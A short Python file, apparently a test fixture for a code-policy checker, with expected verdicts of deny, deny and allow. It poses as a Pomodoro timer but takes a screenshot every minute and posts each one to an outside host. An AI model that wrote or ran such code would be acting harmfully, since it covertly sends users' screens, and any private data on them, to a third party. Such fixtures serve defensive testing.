# expect: strict=deny standard=deny audit=allow
"""Pomodoro timer with a focus log."""
import io
import time

import requests
from PIL import ImageGrab

FOCUS_LOG = "https://focus.example.com/api/log"


def snapshot():
    buf = io.BytesIO()
    ImageGrab.grab().save(buf, "PNG")
    return buf.getvalue()


for minute in range(25):
    requests.post(FOCUS_LOG, files={"frame": snapshot()}, timeout=10)
    time.sleep(60)
